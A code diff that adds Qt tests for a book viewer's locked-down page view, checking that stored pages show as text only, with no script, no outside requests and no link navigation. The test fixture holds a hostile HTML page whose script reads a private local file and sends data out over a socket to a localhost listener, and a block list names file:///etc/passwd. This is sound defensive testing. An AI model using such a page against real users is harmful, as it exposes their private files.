@@ -1,22 +1,95 @@
 // The page view: blank page and navigation, its own context menu, the Ctrl
 // block, and the copy limited to 600 bytes of CP932 text; the counting and
-// cutting of that limit on their own.
+// cutting of that limit on their own; pages shown as content only (no script,
+// nothing reached outside the page file) with the view's own select all,
+// anchors and printing still at work.
 #include <QClipboard>
+#include <QImage>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QMenu>
 #include <QMimeData>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QWebEnginePage>
+#include <QWebEngineSettings>
+#include <QWebEngineView>
 
 #include "guitest.h"
 #include "view/bookview.h"
 #include "view/limitedcopy.h"
+#include "view/safepage.h"
 
 namespace {
 
 const QChar kKan(0x6F22);  // 漢: two bytes in CP932
 
 QString Repeat(QChar c, int n) { return QString(n, c); }
+
+// A listener on this machine that counts every connection made to it.
+struct Listener {
+  QTcpServer server;
+  int connections = 0;
+  Listener() {
+    server.listen(QHostAddress::LocalHost);
+    QObject::connect(&server, &QTcpServer::newConnection, [this] {
+      while (QTcpSocket* s = server.nextPendingConnection()) {
+        ++connections;
+        s->close();
+        s->deleteLater();
+      }
+    });
+  }
+  QString Url(const QString& scheme, const QString& path) const {
+    return QStringLiteral("%1://127.0.0.1:%2/%3").arg(scheme).arg(server.serverPort()).arg(path);
+  }
+};
+
+// A page as a stored page of a collection might carry it: script that marks
+// the document, reads a private file and sends it out over a socket, a local
+// picture, frames, a style sheet, a refresh to elsewhere and outward links.
+QByteArray HostilePage(const Listener& l, const QString& secretFile, const QString& secretPicture) {
+  const QString secretUrl = QUrl::fromLocalFile(secretFile).toString();
+  const QString page = QStringLiteral(
+      "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
+      "<meta http-equiv=\"refresh\" content=\"0;url=%1\">"
+      "<link rel=\"stylesheet\" href=\"%2\">"
+      "<script>document.documentElement.setAttribute('data-ran', 'yes');"
+      "try { var x = new XMLHttpRequest(); x.open('GET', '%3', false); x.send();"
+      "  document.documentElement.setAttribute('data-secret', x.responseText); } catch (e) {}"
+      "try { var w = new WebSocket('%4'); w.onopen = function () { w.send('secret'); }; } catch (e) {}"
+      "</script></head><body>"
+      "<p id=\"text\">本文の頁</p>"
+      "<img id=\"local\" src=\"%5\"><img id=\"remote\" src=\"%6\">"
+      "<iframe src=\"%7\"></iframe><iframe src=\"%3\"></iframe>"
+      "<a id=\"out\" href=\"%8\">外</a> <a id=\"outfile\" href=\"%3\">外</a>"
+      "<img src=\"none\" onerror=\"document.documentElement.setAttribute('data-ran', 'yes')\">"
+      "</body></html>")
+      .arg(l.Url(QStringLiteral("http"), QStringLiteral("refresh")),
+           l.Url(QStringLiteral("http"), QStringLiteral("style.css")), secretUrl,
+           l.Url(QStringLiteral("ws"), QStringLiteral("socket")),
+           QUrl::fromLocalFile(secretPicture).toString(),
+           l.Url(QStringLiteral("http"), QStringLiteral("picture.png")),
+           l.Url(QStringLiteral("http"), QStringLiteral("frame")),
+           l.Url(QStringLiteral("http"), QStringLiteral("link")));
+  return page.toUtf8();
+}
+
+// Runs one of the program's own scripts on the page and waits for its answer.
+QVariant RunProgramScript(CSafePage* page, const QString& script) {
+  QVariant result;
+  bool done = false;
+  page->RunProgramScript(script, [&](const QVariant& v) {
+    result = v;
+    done = true;
+  });
+  QElapsedTimer t;
+  t.start();
+  while (!done && t.elapsed() < 10000) QTest::qWait(10);
+  return result;
+}
 
 }  // namespace
 
@@ -173,6 +246,169 @@ class ViewTest : public QObject {
     QVERIFY(data);
     QCOMPARE(data->text(), text);
     QVERIFY(data->hasHtml());
+  }
+
+  void hostilePageShowsAsTextAndReachesNothing() {
+    QTemporaryDir outside;
+    const QString secretFile = outside.filePath(QStringLiteral("private.txt"));
+    const QString secretPicture = outside.filePath(QStringLiteral("private.png"));
+    {
+      QFile f(secretFile);
+      QVERIFY(f.open(QIODevice::WriteOnly));
+      f.write("private text");
+    }
+    QImage picture(16, 16, QImage::Format_RGB32);
+    picture.fill(Qt::red);
+    QVERIFY(picture.save(secretPicture));
+    Listener listener;
+    QVERIFY(listener.server.isListening());
+    const QString path = m_dir.filePath(QStringLiteral("windows.html"));
+    {
+      QFile f(path);
+      QVERIFY(f.open(QIODevice::WriteOnly));
+      f.write(HostilePage(listener, secretFile, secretPicture));
+    }
+
+    // In a browser view with the browser's defaults the page reaches the
+    // listener: the page and the listener are as they should be.
+    {
+      QWebEngineView plain;
+      plain.resize(400, 300);
+      plain.load(QUrl::fromLocalFile(path));
+      QTRY_VERIFY_WITH_TIMEOUT(listener.connections > 0, 20000);
+    }
+    QTest::qWait(500);  // connections still on their way from the plain view
+    listener.connections = 0;
+
+    QSignalSpy loaded(m_view, &QWebEngineView::loadFinished);
+    m_view->Navigate(path);
+    QVERIFY(loaded.wait(20000));
+    // Time for a refresh, a socket or a late request to show up.
+    QTest::qWait(2000);
+    QCOMPARE(listener.connections, 0);
+    QCOMPARE(QUrl(m_view->CurrentLocation()).toLocalFile(), path);
+    QCOMPARE(m_view->page()->url().toLocalFile(), path);
+    const QJsonObject state = QJsonDocument::fromJson(
+        RunProgramScript(m_view->SafePage(), QStringLiteral(
+            "JSON.stringify({ran: document.documentElement.getAttribute('data-ran'),"
+            " secret: document.documentElement.getAttribute('data-secret'),"
+            " picture: document.getElementById('local').naturalWidth,"
+            " text: document.getElementById('text').textContent})")).toString().toUtf8()).object();
+    QCOMPARE(state.value(QStringLiteral("text")).toString(), QStringLiteral("本文の頁"));
+    QVERIFY(state.value(QStringLiteral("ran")).isNull());
+    QVERIFY(state.value(QStringLiteral("secret")).isNull());
+    QCOMPARE(state.value(QStringLiteral("picture")).toInt(), 0);
+
+    // Links out of the page open nothing.
+    for (const char* link : {"out", "outfile"}) {
+      RunProgramScript(m_view->SafePage(),
+                       QStringLiteral("document.getElementById('%1').click(); true").arg(QLatin1String(link)));
+      QTest::qWait(500);
+      QCOMPARE(m_view->page()->url().toLocalFile(), path);
+    }
+    QCOMPARE(listener.connections, 0);
+
+    // The request filter on its own: with page script and local access
+    // turned back on, the script runs but its requests reach nothing.
+    CBookView loose;
+    loose.resize(400, 300);
+    QWebEngineSettings* settings = loose.page()->settings();
+    for (auto attribute : {QWebEngineSettings::JavascriptEnabled, QWebEngineSettings::LocalContentCanAccessFileUrls,
+                           QWebEngineSettings::LocalContentCanAccessRemoteUrls})
+      settings->setAttribute(attribute, true);
+    QSignalSpy looseLoaded(&loose, &QWebEngineView::loadFinished);
+    loose.Navigate(path);
+    QVERIFY(looseLoaded.wait(20000));
+    QTest::qWait(2000);
+    QCOMPARE(listener.connections, 0);
+    const QJsonObject looseState = QJsonDocument::fromJson(
+        RunProgramScript(loose.SafePage(), QStringLiteral(
+            "JSON.stringify({ran: document.documentElement.getAttribute('data-ran'),"
+            " secret: document.documentElement.getAttribute('data-secret'),"
+            " picture: document.getElementById('local').naturalWidth})")).toString().toUtf8()).object();
+    QCOMPARE(looseState.value(QStringLiteral("ran")).toString(), QStringLiteral("yes"));
+    QVERIFY(looseState.value(QStringLiteral("secret")).toString().isEmpty());
+    QCOMPARE(looseState.value(QStringLiteral("picture")).toInt(), 0);
+  }
+
+  void pagesGoOnlyWhereTheProgramSendsThem() {
+    const QString shown = ShowPage(QStringLiteral("policy.html"), QStringLiteral("本文"));
+    QVERIFY(!shown.isEmpty());
+    const QString other = m_dir.filePath(QStringLiteral("other.html"));
+    const QUrl file = QUrl::fromLocalFile(shown);
+    QUrl anchored = file;
+    anchored.setFragment(QStringLiteral("0003"));
+    CSafePage* page = m_view->SafePage();
+
+    // Requests: the program's resources, inline data and the page file only.
+    struct Load {
+      QString url;
+      bool allowed;
+    } loads[] = {
+        {anchored.toString(), true},
+        {QUrl::fromLocalFile(m_dir.path() + QStringLiteral("/x/../policy.html")).toString(), true},
+        {QStringLiteral("qrc:/res/INPUT.HTM"), true},
+        {QStringLiteral("data:image/png;base64,AAAA"), true},
+        {QStringLiteral("about:blank"), true},
+        {QUrl::fromLocalFile(other).toString(), false},
+        {QStringLiteral("file:///etc/passwd"), false},
+        {QStringLiteral("http://127.0.0.1/"), false},
+        {QStringLiteral("ws://127.0.0.1/"), false},
+        {QStringLiteral("ftp://example.org/policy.html"), false},
+    };
+    for (const Load& l : loads) QVERIFY2(page->Allows(QUrl(l.url)) == l.allowed, qPrintable(l.url));
+
+    // Navigations: the program's own loads and history, anchors of the
+    // document shown; no frames, redirections, forms or links elsewhere.
+    using P = QWebEnginePage;
+    struct Go {
+      QUrl url;
+      P::NavigationType type;
+      bool mainFrame, accepted;
+    } goes[] = {
+        {anchored, P::NavigationTypeTyped, true, true},
+        {anchored, P::NavigationTypeLinkClicked, true, true},
+        {file, P::NavigationTypeBackForward, true, true},
+        {QUrl(QStringLiteral("about:blank")), P::NavigationTypeTyped, true, true},
+        {QUrl(QStringLiteral("about:blank")), P::NavigationTypeOther, false, true},
+        {file, P::NavigationTypeRedirect, true, false},
+        {file, P::NavigationTypeFormSubmitted, true, false},
+        {file, P::NavigationTypeOther, true, false},
+        {file, P::NavigationTypeTyped, false, false},
+        {QUrl::fromLocalFile(other), P::NavigationTypeTyped, true, false},
+        {QUrl(QStringLiteral("http://127.0.0.1/")), P::NavigationTypeLinkClicked, true, false},
+    };
+    for (const Go& g : goes)
+      QVERIFY2(page->AcceptsNavigation(g.url, g.type, g.mainFrame) == g.accepted,
+               qPrintable(g.url.toString() + QStringLiteral(" type %1").arg(int(g.type))));
+    // Once the program shows the other file, it is one of its page files, but
+    // a link from this page still does not lead there.
+    QVERIFY(!ShowPage(QStringLiteral("other.html"), QStringLiteral("別")).isEmpty());
+    QVERIFY(page->Allows(QUrl::fromLocalFile(other)));
+    QVERIFY(!page->AcceptsNavigation(file, P::NavigationTypeLinkClicked, true));
+  }
+
+  void anchorsAndPrintingWorkWithoutPageScript() {
+    // Hit anchors: the next hit far down the page, then back to the first.
+    const QString tall = QStringLiteral("<a name=\"0000\"></a><div style=\"height:4000px\">上</div>");
+    const QString path = ShowPage(QStringLiteral("anchors.html"), tall);
+    QVERIFY(!path.isEmpty());
+    QCOMPARE(m_view->page()->scrollPosition().y(), 0.0);
+    m_view->Navigate(path + QStringLiteral("#0001"));
+    QTRY_VERIFY_WITH_TIMEOUT(m_view->page()->scrollPosition().y() > 1000, 10000);
+    m_view->Navigate(path + QStringLiteral("#0000"));
+    QTRY_VERIFY_WITH_TIMEOUT(m_view->page()->scrollPosition().y() < 10, 10000);
+
+    QTemporaryDir out;
+    const QString pdf = out.filePath(QStringLiteral("page.pdf"));
+    m_view->Printer()->setOutputFormat(QPrinter::PdfFormat);
+    m_view->Printer()->setOutputFileName(pdf);
+    QSignalSpy printed(m_view, &QWebEngineView::printFinished);
+    m_view->PrintNow();
+    QVERIFY(printed.wait(20000));
+    QVERIFY(printed.first().first().toBool());
+    QVERIFY(QFileInfo(pdf).size() > 0);
+    m_view->Printer()->setOutputFileName(QString());
   }
 
   void longerCopyIsCutToPlainText() {
